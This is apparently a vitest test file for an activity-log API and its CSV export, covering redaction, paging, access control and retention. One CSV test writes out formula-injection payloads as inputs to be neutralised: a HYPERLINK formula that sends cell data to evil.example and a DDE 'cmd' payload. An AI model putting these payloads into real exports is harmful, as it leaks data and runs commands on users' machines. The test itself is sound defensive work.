// The activity stream (issue 12 §8): GET /activities and its CSV export from the audit rows — one
// line per change with an entity and a sentence built from allow-listed detail fields only (never a
// secret value, key or token), keyset pages, filters, Admin + Developer only, per account, and the
// 60-day retention run by the Cron Trigger in bounded batches.
import type { Activity } from "../src/services/activities";
import { createExecutionContext, createScheduledController, waitOnExecutionContext } from "cloudflare:test";
import { afterEach, describe, expect, it } from "vitest";
import type { Env } from "../src/env";
import { scheduled } from "../src/scheduler/scheduled";
import { ACTIVITY_RETENTION_MS } from "../src/services/activities";
import { csvField } from "../src/services/csv";
import { AUDIT_DELETE_BATCH, AUDIT_DELETE_ROUNDS } from "../src/services/activity-retention";
import { ACTIONS, summarize } from "../src/services/activity-summaries";
import { OPERATOR_TOKEN, call, createLambda, createSecret, deployed, distinctive, env, json, newAccount, uniqueName, type TestAccount } from "./helpers/api";
import { CODES, ROLES, expectError, mintKey } from "./helpers/spec";

declare global {
  interface ImportMeta {
    glob(pattern: string, options: { query: string; import: string; eager: true }): Record<string, string>;
  }
}

const DAY = 86_400_000;
const MINUTE = 60_000;
const workerEnv = env as unknown as Env;
const base = (a: TestAccount) => `/api/account/${a.accountId}`;


async function page(a: TestAccount, query = "", key = a.admin) {
  const res = await call(`${base(a)}/activities${query}`, { key });
  const text = await res.text();
  expect(res.status, text).toBe(200);
  return JSON.parse(text) as { items: Activity[]; nextCursor: string | null };
}

/** Every item of a filter, following nextCursor (`limit` per page). */
async function everything(a: TestAccount, filter = "", limit = 200, key = a.admin) {
  const items: Activity[] = [];
  let cursor: string | null = null;
  for (let i = 0; i < 1000; i++) {
    const params = new URLSearchParams(filter);
    params.set("limit", String(limit));
    if (cursor) params.set("cursor", cursor);
    const p = await page(a, `?${params}`, key);
    items.push(...p.items);
    cursor = p.nextCursor;
    if (!cursor) return items;
  }
  throw new Error("nextCursor never ended");
}

const exportCsv = (a: TestAccount, query = "", key = a.admin) => call(`${base(a)}/activities/export${query}`, { key });

interface Row {
  action: string;
  at: number;
  actor?: string;
  target?: string;
  detail?: unknown;
}

/** Writes audit rows directly, as a service would. */
async function insertAudit(accountId: string, rows: Row[]) {
  const stmt = env.DB.prepare("INSERT INTO audit_log (account_id, actor, action, target, detail, at) VALUES (?, ?, ?, ?, ?, ?)");
  await env.DB.batch(rows.map((r) => stmt.bind(accountId, r.actor ?? "test:writer", r.action, r.target ?? "t", JSON.stringify(r.detail ?? {}), r.at)));
}

/** n rows of one action at one time, in one statement. */
async function insertMany(accountId: string, n: number, at: number, actor = "test:bulk") {
  await env.DB.prepare(
    `WITH RECURSIVE seq(i) AS (SELECT 1 UNION ALL SELECT i + 1 FROM seq WHERE i < ?1)
     INSERT INTO audit_log (account_id, actor, action, target, detail, at) SELECT ?2, ?3, 'lambda.update', 'fn-' || i, '{"changed":["code"]}', ?4 FROM seq`,
  )
    .bind(n, accountId, actor, at)
    .run();
}

const countExpired = async (now: number) =>
  (await env.DB.prepare("SELECT count(*) AS n FROM audit_log WHERE at < ?").bind(now - ACTIVITY_RETENTION_MS).first<{ n: number }>())!.n;

async function fireTick(ms: number, e: Env = workerEnv) {
  const ctx = createExecutionContext();
  await scheduled(createScheduledController({ scheduledTime: ms, cron: "* * * * *" }), e, ctx);
  await waitOnExecutionContext(ctx);
}

/** A CSV text as rows of fields (quotes, doubled quotes and line breaks inside quotes). */
function parseCsv(text: string): string[][] {
  const rows: string[][] = [];
  let row: string[] = [];
  let field = "";
  let quoted = false;
  for (let i = 0; i < text.length; i++) {
    const ch = text[i]!;
    if (quoted) {
      if (ch === '"' && text[i + 1] === '"') (field += '"'), i++;
      else if (ch === '"') quoted = false;
      else field += ch;
    } else if (ch === '"' && field === "") quoted = true;
    else if (ch === ";") row.push(field), (field = "");
    else if (ch === "\n") row.push(field), rows.push(row), (row = []), (field = "");
    else field += ch;
  }
  if (field !== "" || row.length > 0) row.push(field), rows.push(row);
  return rows;
}

afterEach(async () => {
  await env.DB.prepare("UPDATE schedules SET is_active = 0, next_execution = NULL").run();
});

describe("activity stream: what it says", () => {
  it("every action the services write has its own entity and sentence (none falls back to the generic one)", () => {
    const sources = import.meta.glob("../src/**/*.ts", { query: "?raw", import: "default", eager: true });
    const written = new Set<string>();
    for (const text of Object.values(sources)) for (const m of text.matchAll(/\baction: "([a-z]+\.[a-z]+)"/g)) written.add(m[1]!);
    expect(written.size).toBeGreaterThanOrEqual(20); // the scan itself works
    const noNames = { lambda: () => undefined, apiKey: () => undefined, oauthClient: () => undefined };
    for (const action of written) {
      expect(ACTIONS[action], `${action} has no entry in ACTIONS`).toBeDefined();
      expect(summarize({ action, target: "x", detail: {} }, noNames)).not.toMatch(/^performed /);
    }
  });

  it("real changes read as one-line sentences with entity, actor and target, newest first", async () => {
    const a = await newAccount();
    const name = uniqueName("act");
    const created = await call(`${base(a)}/lambdas`, { key: a.developer, body: { name, description: "d", implementation: { code: "function lambda(i, cb) { cb(null, 1); }" } } });
    expect(created.status).toBe(201);
    const uuid = (await json(created)).uuid as string;
    expect((await call(`${base(a)}/lambdas/${uuid}`, { method: "PUT", key: a.developer, body: { description: "changed" } })).status).toBe(200);
    expect((await call(`${base(a)}/deployments/${uuid}`, { method: "POST", key: a.developer })).status).toBe(201);
    const schedule = await json(await call(`${base(a)}/schedules`, { key: a.developer, body: { lambdaUUID: uuid, cronExpression: "*/5 * * * *", isActive: true } }));
    expect((await call(`${base(a)}/deployments/${uuid}`, { method: "DELETE", key: a.developer })).status).toBeLessThan(300);
    await createSecret(a, "CRM_TOKEN", "v1");
    expect((await call(`${base(a)}/secrets/CRM_TOKEN`, { method: "PUT", key: a.admin, body: { value: "v2" } })).status).toBe(200);
    expect((await call(`${base(a)}/secrets/CRM_TOKEN`, { method: "DELETE", key: a.admin })).status).toBe(204);
    const proxy = await json(await call(`${base(a)}/proxy-settings`, { key: a.admin, body: { domain: "api.example.com", id: -1 } }));
    expect((await call(`${base(a)}/proxy-settings/${proxy.id}`, { method: "DELETE", key: a.admin })).status).toBe(204);
    const ciKey = await mintKey(a, "FaaS-Invocation", "ci bot");
    expect((await call(`${base(a)}/api-keys/${ciKey.id}`, { method: "DELETE", key: a.admin })).status).toBe(204);
    const client = await json(await call(`${base(a)}/oauth-clients`, { key: a.admin, body: { name: "crm" } }));
    expect((await call(`${base(a)}/oauth-clients/${client.id}`, { method: "DELETE", key: a.admin })).status).toBe(204);
    expect((await call(`/admin/accounts/${a.accountId}/limits`, { method: "PUT", key: OPERATOR_TOKEN, body: { functions: 7 } })).status).toBe(200);

    const items = await everything(a);
    const one = (action: string, target?: string) => {
      const found = items.filter((i) => i.action === action && (target === undefined || i.target === target));
      expect(found, `${action} ${target ?? ""} in ${JSON.stringify(items.map((i) => i.action))}`).toHaveLength(1);
      return found[0]!;
    };
    const fn = `function ${name} (${uuid})`;
    const expected: [string, string | undefined, string, string][] = [
      ["account.create", a.accountId, "account", "created account Test brand"],
      ["lambda.create", uuid, "lambda", `created ${fn}`],
      ["lambda.update", uuid, "lambda", `changed ${fn}: description`],
      ["lambda.deploy", uuid, "deployment", `deployed ${fn}, version 2`],
      ["schedule.create", schedule.id, "schedule", `created schedule ${schedule.id} of ${fn}: "*/5 * * * *" UTC, active`],
      ["lambda.undeploy", uuid, "deployment", `undeployed ${fn}`],
      ["schedule.pause", uuid, "schedule", `paused the schedules of ${fn} (function undeployed)`],
      ["secret.create", "CRM_TOKEN", "secret", "created secret CRM_TOKEN (type string)"],
      ["secret.update", "CRM_TOKEN", "secret", "changed secret CRM_TOKEN"],
      ["secret.delete", "CRM_TOKEN", "secret", "deleted secret CRM_TOKEN"],
      ["proxy.add", "api.example.com", "proxy-setting", "allowed outbound calls to api.example.com"],
      ["proxy.delete", "api.example.com", "proxy-setting", "removed api.example.com from the outbound allow-list"],
      ["apikey.create", ciKey.id, "api-key", `created API key ci bot (${ciKey.id}) with role FaaS-Invocation`],
      // The revoke row names only the key's id: the name is looked up.
      ["apikey.revoke", ciKey.id, "api-key", `revoked API key ci bot (${ciKey.id})`],
      ["oauthclient.create", client.id, "oauth-client", `created OAuth client crm (${client.id})`],
      ["oauthclient.revoke", client.id, "oauth-client", `revoked OAuth client crm (${client.id})`],
      ["limits.update", a.accountId, "limits", "changed the account's limits: functions default → 7"],
    ];
    for (const [action, target, entity, summary] of expected) {
      expect(one(action, target), action).toMatchObject({ entity, summary });
    }
    expect(one("lambda.deploy").actor).toMatch(/^key:FaaS-Developer#/);
    expect(one("secret.create").actor).toMatch(/^key:initial-admin#/);
    expect(one("limits.update").actor).toBe("operator");
    for (const i of items) {
      expect(i.summary).not.toMatch(/[\r\n]/);
      expect(new Date(i.at).toISOString()).toBe(i.at);
    }
    // Newest first; within one millisecond, the later row first.
    for (let k = 1; k < items.length; k++) {
      const [prev, cur] = [items[k - 1]!, items[k]!];
      expect(Date.parse(prev.at) > Date.parse(cur.at) || (prev.at === cur.at && Number(prev.id) > Number(cur.id)), `${prev.action} before ${cur.action}`).toBe(true);
    }
    expect(items[0]!.action).toBe("limits.update");
    expect(items[items.length - 1]!.action).toBe("account.create");
    // The Developer reads the same stream.
    expect(await everything(a, "", 200, a.developer)).toEqual(items);
  });

  it("an unknown action gets an entity from its prefix and a generic sentence; text stays on one line", async () => {
    const a = await newAccount();
    const now = Date.now();
    await insertAudit(a.accountId, [
      { action: "webhook.create", target: "hook-1", at: now - 3000 },
      { action: "lambda.rename", target: "fn-9", at: now - 2000 },
      { action: "lambda.create", target: "fn-10", detail: { name: "line\nbreak\u2028name" }, at: now - 1000 },
    ]);
    const items = await everything(a, "actor=test:writer");
    expect(items.map((i) => [i.action, i.entity, i.summary])).toEqual([
      ["lambda.create", "lambda", "created function line break name (fn-10)"],
      ["lambda.rename", "lambda", "performed lambda.rename on lambda fn-9"],
      ["webhook.create", "webhook", "performed webhook.create on webhook hook-1"],
    ]);
  });
});

describe("activity stream: filters and pages", () => {
  it("filters by entity (as items show it, unknown actions included), actor and an inclusive from/to", async () => {
    const a = await newAccount();
    const t = Date.now() - 10 * MINUTE;
    await insertAudit(a.accountId, [
      { action: "lambda.create", at: t, actor: "test:alice" },
      { action: "lambda.deploy", at: t + 1000, actor: "test:alice" },
      { action: "lambda.undeploy", at: t + 2000, actor: "test:bob" },
      { action: "lambda.rename", at: t + 3000, actor: "test:bob" },
      { action: "secret.update", at: t + 4000, actor: "test:bob", target: "K" },
      { action: "webhook.create", at: t + 5000, actor: "test:bob" },
    ]);
    const actions = async (filter: string) => (await everything(a, filter)).filter((i) => i.actor.startsWith("test:")).map((i) => i.action);
    expect(await actions("entity=deployment")).toEqual(["lambda.undeploy", "lambda.deploy"]);
    expect(await actions("entity=lambda")).toEqual(["lambda.rename", "lambda.create"]);
    expect(await actions("entity=webhook")).toEqual(["webhook.create"]);
    expect(await actions("entity=secret")).toEqual(["secret.update"]);
    expect(await actions("entity=nothing")).toEqual([]);
    // Every item of an entity filter says that entity, and together they are the whole stream.
    const all = await everything(a);
    let total = 0;
    for (const entity of new Set(all.map((i) => i.entity))) {
      const items = await everything(a, `entity=${entity}`);
      expect(items.every((i) => i.entity === entity)).toBe(true);
      total += items.length;
    }
    expect(total).toBe(all.length);

    expect((await everything(a, "actor=test:alice")).map((i) => i.action)).toEqual(["lambda.deploy", "lambda.create"]);
    expect(await actions("actor=test:bob&entity=lambda")).toEqual(["lambda.rename"]);
    expect(await actions(`from=${t + 1000}&to=${t + 3000}`)).toEqual(["lambda.rename", "lambda.undeploy", "lambda.deploy"]);
    expect(await actions(`from=${new Date(t + 4000).toISOString()}`)).toEqual(["webhook.create", "secret.update"]);
    expect(await actions(`to=${new Date(t).toISOString()}`)).toEqual(["lambda.create"]);
  });

  it("refuses a malformed cursor, from, to, entity or limit with 400 badinput", async () => {
    const a = await newAccount();
    const bad = [
      "cursor=garbage!!",
      `cursor=${btoa("abc:def")}`,
      `cursor=${btoa("123:")}`,
      `cursor=${btoa("123")}`,
      `cursor=${btoa("1:2:3")}`,
      "from=yesterday",
      "to=2026-13-45T00:00:00Z",
      "to=12abc",
      "entity=Not%20an%20entity",
      "limit=0",
      "limit=201",
    ];
    for (const q of bad) {
      for (const path of ["activities", "activities/export"]) {
        if (path.endsWith("export") && /^(cursor|limit)/.test(q)) continue; // the export takes neither
        await expectError(await call(`${base(a)}/${path}?${q}`, { key: a.admin }), 400, CODES.badInput, `${path}?${q}`);
      }
    }
  });

  it("pages by keyset: many rows in one millisecond come once each, in order, even while new rows arrive", async () => {
    const a = await newAccount();
    const t = Date.now() - 5 * MINUTE;
    await insertMany(a.accountId, 25, t, "test:pager");
    await insertAudit(a.accountId, [1, 2, 3].map((k) => ({ action: "secret.update", actor: "test:pager", at: t - k })));
    await insertAudit(a.accountId, [1, 2].map((k) => ({ action: "secret.update", actor: "test:pager", at: t + k })));
    const expected = (
      await env.DB.prepare("SELECT id FROM audit_log WHERE account_id = ? AND actor = 'test:pager' ORDER BY at DESC, id DESC").bind(a.accountId).all<{ id: number }>()
    ).results.map((r) => String(r.id));
    expect(expected).toHaveLength(30);

    const first = await page(a, "?actor=test:pager&limit=4");
    expect(first.items).toHaveLength(4);
    // Newer rows written meanwhile do not shift the following pages (they would with an offset).
    await insertAudit(a.accountId, [1, 2, 3].map(() => ({ action: "secret.update", actor: "test:pager", at: Date.now() })));
    const seen = first.items.map((i) => i.id);
    let cursor = first.nextCursor;
    while (cursor) {
      const p = await page(a, `?actor=test:pager&limit=4&cursor=${encodeURIComponent(cursor)}`);
      expect(p.items.length).toBeGreaterThan(0);
      seen.push(...p.items.map((i) => i.id));
      cursor = p.nextCursor;
    }
    expect(seen).toEqual(expected);
  });
});

describe("activity stream: never a secret", () => {
  it("no secret value, API key or OAuth client secret reaches the stream or the CSV, even when a row's detail holds one", async () => {
    const a = await newAccount();
    const values = { created: distinctive("secret-v1"), updated: distinctive("secret-v2") };
    await createSecret(a, "PAYMENT_KEY", values.created);
    expect((await call(`${base(a)}/secrets/PAYMENT_KEY`, { method: "PUT", key: a.admin, body: { value: values.updated } })).status).toBe(200);
    const apiKey = (await mintKey(a, "FaaS-Developer", "deploy bot")).key;
    const clientSecret = (await json(await call(`${base(a)}/oauth-clients`, { key: a.admin, body: { name: "crm" } }))).clientSecret as string;
    expect(clientSecret.length).toBeGreaterThan(20);

    // Rows whose detail carries what must never be shown: only allow-listed fields reach the text.
    const planted = {
      value: distinctive("value"),
      key: distinctive("key"),
      token: distinctive("token"),
      password: distinctive("password"),
      field: distinctive("field"),
      limit: distinctive("limit"),
    };
    const now = Date.now();
    await insertAudit(a.accountId, [
      { action: "secret.update", target: "PAYMENT_KEY", detail: { type: "string", value: planted.value }, at: now },
      { action: "apikey.create", target: "k1", detail: { name: "n", role: "FaaS-Admin", key: planted.key, token: planted.token }, at: now },
      { action: "webhook.create", target: "w1", detail: { password: planted.password, secret: planted.value }, at: now },
      { action: "lambda.update", target: "fn", detail: { changed: ["code", planted.field], code: planted.value }, at: now },
      { action: "limits.update", target: a.accountId, detail: { functions: { from: planted.limit, to: 3 }, [planted.key]: { from: 1, to: 2 } }, at: now },
    ]);
    const stored = JSON.stringify((await env.DB.prepare("SELECT * FROM audit_log WHERE account_id = ?").bind(a.accountId).all()).results);
    expect(stored).toContain(planted.token); // really in the rows

    const forbidden = [values.created, values.updated, apiKey, clientSecret, ...Object.values(planted)];
    const stream = JSON.stringify([...(await everything(a, "", 200, a.admin)), ...(await everything(a, "", 200, a.developer))]);
    const csv = await (await exportCsv(a)).text();
    expect(stream).toContain("changed function fn: code"); // the planted rows are shown...
    expect(csv).toContain("performed webhook.create on webhook w1");
    for (const value of forbidden) {
      expect(stream, "stream").not.toContain(value); // ...without what they carry
      expect(csv, "CSV").not.toContain(value);
    }
  });
});

describe("activity stream: CSV export", () => {
  it("quotes a field only when it holds ;, \" or a line break", () => {
    expect(csvField("plain text")).toBe("plain text");
    expect(csvField("a;b")).toBe('"a;b"');
    expect(csvField('say "hi"')).toBe('"say ""hi"""');
    expect(csvField("two\nlines")).toBe('"two\nlines"');
    expect(csvField("cr\rhere")).toBe('"cr\rhere"');
  });

  it("neutralises what a spreadsheet would run as a formula: a leading =, +, -, @, tab or carriage return", () => {
    expect(csvField('=HYPERLINK("https://evil.example/?"&A1,"open")')).toBe(`"'=HYPERLINK(""https://evil.example/?""&A1,""open"")"`);
    expect(csvField("+1+cmd|' /C calc'!A0")).toBe("'+1+cmd|' /C calc'!A0");
    expect(csvField("-2+3")).toBe("'-2+3");
    expect(csvField("@SUM(A1:A9)")).toBe("'@SUM(A1:A9)");
    expect(csvField("\t=1")).toBe("'\t=1");
    expect(csvField("\r=1")).toBe(`"'\r=1"`);
    expect(csvField("a = b, 3 - 1 @ noon")).toBe("a = b, 3 - 1 @ noon"); // only the first character counts
  });

  it("streams every row of the filter in pages, newest first, as an attachment with the header", async () => {
    const a = await newAccount();
    const t = Date.now() - MINUTE;
    await insertMany(a.accountId, 1100, t - 1000, "test:many");
    await insertAudit(a.accountId, [{ action: "secret.delete", target: "K;1", actor: 'ci;bot "x"\nline two', at: t }]);

    const res = await exportCsv(a);
    expect(res.status).toBe(200);
    expect(res.headers.get("content-type")).toMatch(/^text\/csv/);
    expect(res.headers.get("content-disposition")).toBe(`attachment; filename="activities-${a.accountId}.csv"`);
    // Read as a stream: the pages arrive as chunks of their own.
    const reader = res.body!.getReader();
    const decoder = new TextDecoder();
    let text = "";
    let chunks = 0;
    for (let r = await reader.read(); !r.done; r = await reader.read()) (text += decoder.decode(r.value, { stream: true })), chunks++;
    expect(chunks).toBeGreaterThanOrEqual(3); // 1,100+ rows, 500 a page

    const rows = parseCsv(text);
    expect(rows[0]).toEqual(["at", "actor", "activity", "entity", "target", "summary"]);
    expect(text.startsWith("at;actor;activity;entity;target;summary\n")).toBe(true);
    const stream = await everything(a);
    expect(rows.slice(1)).toEqual(stream.map((i) => [i.at, i.actor, i.action, i.entity, i.target, i.summary]));
    expect(rows.find((r) => r[2] === "secret.delete")).toEqual([new Date(t).toISOString(), 'ci;bot "x"\nline two', "secret.delete", "secret", "K;1", "deleted secret K;1"]);
    expect(rows.filter((r) => r[1] === "test:many")).toHaveLength(1100);

    // The same filters as the stream.
    const filtered = parseCsv(await (await exportCsv(a, `?entity=secret&to=${t}`)).text());
    expect(filtered.slice(1).map((r) => r[2])).toEqual(["secret.delete"]);
    const none = await (await exportCsv(a, "?actor=nobody")).text();
    expect(none).toBe("at;actor;activity;entity;target;summary\n");
  });
});

describe("activity stream: access", () => {
  it("Admin and Developer read the stream and the export; FaaS-Invocation gets 403; no key 401", async () => {
    const a = await newAccount();
    for (const role of ROLES) {
      for (const path of ["activities", "activities/export"]) {
        const res = await call(`${base(a)}/${path}`, { key: a.keyOf(role) });
        if (role === "FaaS-Invocation") await expectError(res, 403, CODES.forbidden, `${role} ${path}`);
        else expect(res.status, `${role} ${path}: ${await res.clone().text()}`).toBe(200), await res.text();
      }
    }
    for (const path of ["activities", "activities/export"]) await expectError(await call(`${base(a)}/${path}`), 401, CODES.unauthorized, path);
    // The spec documents the permission.
    const spec = await json(await call("/api/openapi.json"));
    expect(spec.paths["/api/account/{accountId}/activities"].get["x-permission"]).toBe("activity:read");
    expect(spec.paths["/api/account/{accountId}/activities/export"].get["x-permission"]).toBe("activity:read");
  });

  it("an account never sees another account's rows, by any filter or cursor, and cannot open its stream", async () => {
    const [a, b] = await Promise.all([newAccount(), newAccount()]);
    await createLambda(a);
    const bFn = await deployed(b);
    await createSecret(b, "B_ONLY_SECRET", "x");
    const bRows = (await env.DB.prepare("SELECT actor, target FROM audit_log WHERE account_id = ?").bind(b.accountId).all<{ actor: string; target: string }>()).results;
    const bActor = bRows.find((r) => r.actor.startsWith("key:FaaS-Developer#"))!.actor;
    const marks = [bFn, "B_ONLY_SECRET", b.accountId, bActor];

    for (const role of ["FaaS-Admin", "FaaS-Developer"] as const) {
      const key = a.keyOf(role);
      const views = [
        await everything(a, "", 200, key),
        await everything(a, `actor=${encodeURIComponent(bActor)}`, 200, key),
        await everything(a, "entity=secret", 200, key),
        await everything(a, "entity=deployment", 200, key),
        await everything(a, `from=0&to=${Date.now() + MINUTE}`, 200, key),
      ];
      expect(views[0]!.length).toBeGreaterThan(0);
      const csv = await (await exportCsv(a, "", key)).text();
      for (const mark of marks) {
        expect(JSON.stringify(views), `${role}: ${mark}`).not.toContain(mark);
        expect(csv, `${role} CSV: ${mark}`).not.toContain(mark);
      }
      // A cursor positioned after B's newest row still lists only A's.
      const newestB = (await env.DB.prepare("SELECT max(at) AS at, max(id) AS id FROM audit_log WHERE account_id = ?").bind(b.accountId).first<{ at: number; id: number }>())!;
      const forged = btoa(`${newestB.at + 1}:${newestB.id + 1}`);
      const p = await page(a, `?cursor=${encodeURIComponent(forged)}`, key);
      expect(p.items.length).toBeGreaterThan(0);
      expect(JSON.stringify(p)).not.toContain(bFn);
      // B's path with A's key: B's stream does not exist for A.
      for (const path of ["activities", "activities/export"]) {
        await expectError(await call(`${base(b)}/${path}`, { key }), 404, undefined, `${role} on B's ${path}`);
      }
    }
  });
});

describe("activity stream: 60-day retention", () => {
  it("rows older than 60 days are never shown, even before they are deleted", async () => {
    const a = await newAccount();
    const now = Date.now();
    await insertAudit(a.accountId, [
      { action: "secret.update", target: "OLD", at: now - 61 * DAY },
      { action: "secret.update", target: "RECENT", at: now - 59 * DAY },
    ]);
    for (const filter of ["", "from=0", "entity=secret"]) {
      const targets = (await everything(a, filter)).map((i) => i.target);
      expect(targets, filter).toContain("RECENT");
      expect(targets, filter).not.toContain("OLD");
    }
    expect(await (await exportCsv(a, "?from=0")).text()).not.toContain("OLD");
  });

  it("the Cron Trigger deletes expired rows of every account in bounded batches, oldest first, and keeps the rest", async () => {
    const [a, b] = await Promise.all([newAccount(), newAccount()]);
    const now = Date.now();
    const perRun = AUDIT_DELETE_BATCH * AUDIT_DELETE_ROUNDS;
    const expiredBefore = await countExpired(now); // other tests' old rows
    await insertMany(a.accountId, perRun - 200, now - 90 * DAY);
    await insertMany(b.accountId, 300, now - 60 * DAY - MINUTE);
    await insertAudit(a.accountId, [{ action: "secret.update", target: "KEEP", at: now - 59 * DAY }]);
    const within = `SELECT count(*) AS n FROM audit_log WHERE at >= ${now - ACTIVITY_RETENTION_MS}`;
    const before = (await env.DB.prepare(within).first<{ n: number }>())!.n;
    const total = expiredBefore + perRun + 100;
    expect(await countExpired(now)).toBe(total);

    await fireTick(now);
    // One run deletes its bound and no more, the oldest first: what is left expired is B's.
    expect(await countExpired(now)).toBe(total - perRun);
    const left = (await env.DB.prepare("SELECT DISTINCT account_id AS id FROM audit_log WHERE at < ?").bind(now - ACTIVITY_RETENTION_MS).all<{ id: string }>()).results;
    expect(left.map((r) => r.id)).toEqual([b.accountId]);
    await fireTick(now + MINUTE);
    expect(await countExpired(now)).toBe(0);
    // Nothing within the retention was deleted (ticks may add rows, never remove them).
    expect((await env.DB.prepare(within).first<{ n: number }>())!.n).toBeGreaterThanOrEqual(before);
    expect((await everything(a, "entity=secret")).map((i) => i.target)).toContain("KEEP");
  });

  it("the delete finds expired rows through an index on the time, and a page still reads the account's index", async () => {
    const planOf = async (query: string, ...params: unknown[]) =>
      (await env.DB.prepare(`EXPLAIN QUERY PLAN ${query}`).bind(...params).all<{ detail: string }>()).results.map((r) => r.detail).join(" | ");
    const expired = await planOf("SELECT id FROM audit_log WHERE at < ? ORDER BY at LIMIT 500", Date.now());
    expect(expired).toMatch(/USING (COVERING )?INDEX audit_at\b/);
    expect(expired).not.toMatch(/TEMP B-TREE/);
    const page = await planOf("SELECT * FROM audit_log WHERE account_id = ? AND at >= ? ORDER BY at DESC, id DESC LIMIT 51", "acct", 0);
    expect(page).toMatch(/USING INDEX audit_account_time\b/);
    expect(page).not.toMatch(/TEMP B-TREE/);
  });

  it("a failing retention does not keep a due schedule from firing", async () => {
    const a = await newAccount();
    const fn = await deployed(a);
    const res = await call(`${base(a)}/schedules`, { key: a.developer, body: { lambdaUUID: fn, cronExpression: "* * * * *", isActive: true } });
    expect(res.status, await res.clone().text()).toBe(201);
    const s = await json(res);
    let attempts = 0;
    const real = env.DB;
    const failing = {
      prepare(query: string) {
        if (/^delete from "audit_log"/i.test(query)) {
          attempts++;
          throw new Error("D1 refused the delete");
        }
        return real.prepare(query);
      },
      batch: (statements: D1PreparedStatement[]) => real.batch(statements),
      exec: (query: string) => real.exec(query),
    } as unknown as D1Database;
    await fireTick(Date.parse(s.nextExecution), { ...workerEnv, DB: failing, OPERATOR_TOKEN: undefined as unknown as string });
    expect(attempts).toBeGreaterThan(0); // the retention did run, and failed
    const runs = (await env.DB.prepare("SELECT status FROM schedule_runs WHERE schedule_id = ?").bind(s.id).all<{ status: string }>()).results;
    expect(runs.map((r) => r.status)).toEqual(["succeeded"]);
  });
});
